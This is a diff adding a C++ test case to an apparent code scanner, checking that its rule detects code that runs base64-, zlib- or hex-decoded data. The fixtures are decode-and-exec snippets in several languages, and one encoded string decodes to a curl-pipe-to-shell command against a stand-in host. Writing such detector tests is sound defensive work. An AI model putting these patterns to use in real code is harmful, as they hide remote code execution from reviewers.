@@ -302,3 +302,26 @@ TEST_CASE("a secret-named variable given a random literal is flagged even with E
       {"cfg.py", "AWS_REGION = \"wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\"\n", "code.secret.high-entropy-assignment"},
   });
 }
+
+TEST_CASE("running data decoded at run time is found; decoding data that is not run is not") {
+  check_matches({
+      {"src/loader.py", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n", "code.exec.decoded-payload"},
+      {"src/up.py", "import zlib, base64\ncode = zlib.decompress(base64.b64decode(BLOB))\neval(code)\n",
+       "code.exec.decoded-payload"},
+      {"src/boot.js",
+       "const cp = require('child_process');\ncp.exec(Buffer.from('Y3VybCB4LmV4YW1wbGV8c2g=', 'base64').toString());\n",
+       "code.exec.decoded-payload"},
+      {"src/boot.ts", "import { execSync } from 'child_process';\nconst c = atob(process.argv[2]);\nexecSync(c);\n",
+       "code.exec.decoded-payload"},
+      {"main.go",
+       "package main\nfunc main() {\n\tb, _ := hex.DecodeString(p)\n\texec.Command(\"sh\", \"-c\", string(b)).Run()\n}\n",
+       "code.exec.decoded-payload"},
+  });
+  check_no_matches({
+      {"src/img.py", "import base64\nimage = base64.b64decode(data)\nopen('a.png', 'wb').write(image)\n",
+       "code.exec.decoded-payload"},
+      {"src/a.js", "const token = Buffer.from(header, 'base64').toString();\nexecSync('git status');\n",
+       "code.exec.decoded-payload"},
+      {"src/b.py", "subprocess.run(['git', 'log', '--oneline'], check=True)\n", "code.exec.decoded-payload"},
+  });
+}
